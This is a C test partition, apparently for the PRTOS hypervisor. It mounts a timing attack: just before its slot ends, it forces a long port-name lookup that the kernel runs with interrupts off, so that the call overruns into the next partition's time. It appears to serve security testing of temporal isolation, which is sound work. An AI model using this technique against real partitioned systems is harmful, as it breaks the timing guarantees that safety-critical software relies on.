/*
 * attack_port_names, P0 (normal): 32 memory areas and 32 ports whose names share
 * their first 29 characters. Each frame it waits until just before its slot
 * ends and then asks for a 31-character port name that none of its ports has,
 * from a buffer in its last area: the core checks every byte of the name
 * against every area (guest_copy_string), then compares it with every port
 * name, all with interrupts off. One call takes about 400 us.
 */
#include <prtos.h>
#include <stdio.h>
#include <string.h>

#define LAST_AREA 0x605E000U
#define SLOT_END_US 400
#define CALL_AT_US 380 /* the call starts here, 20 us before the slot ends */

void partition_main(void)
{
	char *name = (char *)(LAST_AREA + 0x1000 - 32);
	prtos_plan_status_t ps;
	prtos_time_t now, a, b;
	prtos_s32_t r;
	int frames = 0;

	memset(name, 'P', 31);
	name[29] = 'Z';
	name[30] = 'Z';
	name[31] = '\0';
	prtos_get_plan_status(&ps);
	/* One call timed from the start of a slot. */
	prtos_idle_self();
	prtos_get_time(PRTOS_HW_CLOCK, &a);
	r = prtos_create_sampling_port(name, 16, PRTOS_SOURCE_PORT, 0);
	prtos_get_time(PRTOS_HW_CLOCK, &b);
	printf("[Namer] one look-up: returned %d, from %lld to %lld us into the frame\n", r,
	       (a - ps.switch_time) % MAJOR_FRAME_US, (b - ps.switch_time) % MAJOR_FRAME_US);
	for (;;) {
		prtos_idle_self();
		do
			prtos_get_time(PRTOS_HW_CLOCK, &now);
		while ((now - ps.switch_time) % MAJOR_FRAME_US < CALL_AT_US);
		prtos_create_sampling_port(name, 16, PRTOS_SOURCE_PORT, 0);
		if (++frames == 10)
			printf("[Namer] 10 frames with a look-up %d us before the slot end\n",
			       SLOT_END_US - CALL_AT_US);
	}
}
